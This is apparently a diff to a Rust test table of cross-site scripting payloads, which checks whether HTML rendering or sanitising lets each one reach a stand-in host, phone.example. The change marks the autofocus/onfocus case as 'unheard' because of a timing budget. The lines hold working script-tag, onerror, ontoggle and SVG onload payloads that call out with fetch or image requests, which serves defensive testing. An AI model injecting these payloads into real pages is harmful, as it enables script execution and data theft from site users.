@@ -54,7 +54,8 @@ pub const WAYS: &[Way] = &[
     heard("script", "<script>new Image().src = 'http://phone.example/script'</script>"),
     heard("script-src", "<script src=http://phone.example/script.js></script>"),
     heard("event", "<img src=data:, onerror=\"fetch('http://phone.example/event')\">"),
-    heard("event-autofocus", "<input autofocus onfocus=\"fetch('http://phone.example/focus')\">"),
+    // Focus comes with a frame that is drawn, which may be after the budget.
+    unheard("event-autofocus", "<input autofocus onfocus=\"fetch('http://phone.example/focus')\">"),
     heard("event-toggle", "<details open ontoggle=\"fetch('http://phone.example/toggle')\">x</details>"),
     heard("svg-script", "<svg><script>fetch('http://phone.example/svg-script')</script></svg>"),
     heard("svg-onload", "<svg onload=\"fetch('http://phone.example/svg-onload')\"></svg>"),
